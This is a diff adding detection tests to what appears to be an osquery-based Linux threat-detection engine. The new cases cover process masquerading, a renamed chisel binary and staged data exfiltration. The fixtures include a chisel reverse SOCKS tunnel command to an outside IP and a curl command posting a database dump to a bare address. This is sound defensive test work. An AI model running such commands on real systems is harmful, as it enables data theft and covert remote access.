@@ -5,6 +5,7 @@ import { FIXTURES, type DetectionFixture } from "./detection-fixtures.js";
 import { FIXTURES_A } from "./fixtures/new-a.js";
 import { FIXTURES_B } from "./fixtures/new-b.js";
 import { host, proc, readRepoFile, sock } from "./helpers.js";
+import { basename } from "../../shared/engine/rows.js";
 
 const ALL_FIXTURES: Record<string, DetectionFixture> = { ...FIXTURES, ...FIXTURES_A, ...FIXTURES_B };
 const SCHEMA = JSON.parse(readRepoFile("reference/osquery-linux-schema.json")) as { tables: Record<string, { columns: string[] }> };
@@ -328,6 +329,22 @@ test("baselines from the blind corpora: a virtualenv's unit, a monitoring agent'
   t.same(suid("/usr/sbin/suexec", "apache"), [], "Apache's suexec");
   t.same(suid("/usr/sbin/exim", "root"), [], "Exim");
   t.same(suid("/usr/bin/locate", "slocate"), [], "RHEL 8's mlocate");
+});
+
+test("recall from the blind corpora: XorDDoS's disguises, a renamed chisel, a dump posted to a bare address", async (t) => {
+  const masq = (path: string, cmdline: string) => findings(run("process-masquerading", host({ processes: [proc(392, basename(path), path, cmdline)] })));
+  t.equal(masq("/usr/bin/kvtkzorhbv", "ifconfig eth0").length, 1, "a utility's command line on a random binary");
+  t.equal(masq("/lib/libudev.so.6", "who")[0]?.severity, "high", "a library file run as a program");
+  t.same(masq("/usr/bin/w.procps", "w"), [], "Debian's alternatives: w is w.procps");
+  t.same(masq("/bin/busybox", "ps"), [], "BusyBox applets");
+  t.same(masq("/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 --list /usr/bin/ls"), [], "the dynamic loader may be run");
+  const tool = (cmdline: string) => findings(run("offensive-tool-present", host({ processes: [proc(463, "fontd", "/var/tmp/.font-unix/fontd", cmdline)] })));
+  t.equal(tool("/var/tmp/.font-unix/fontd client --keepalive 25s https://146.190.52.17:443 R:0.0.0.0:1080:socks").length, 1, "chisel's client by its reverse SOCKS remote");
+  t.same(tool("/var/tmp/.font-unix/fontd --config /etc/fontd.conf"), [], "the same file with other arguments says nothing");
+  const exfil = (cmdline: string) => findings(run("staged-data-exfiltration", host({ processes: [proc(1190, "curl", "/usr/bin/curl", cmdline, { uid: "1001" })] })));
+  t.equal(exfil("curl -s -X POST -F f=@/var/www/shop/media/tmp/.sess_7f3a.sql.gz http://45.137.21.9:8000/u")[0]?.severity, "high", "a database dump posted to a bare address");
+  t.same(exfil("curl -s -T /var/backups/db.sql.gz https://backup.example.com/u"), [], "a backup sent to a named host is not judged here");
+  t.same(exfil("curl -s -F f=@/srv/db.sql.gz http://10.0.0.5/u"), [], "nor one sent inside the site");
 });
 
 test("install-script-payload: what an install's processes do, found by npm's environment, an installing ancestor or node_modules", async (t) => {
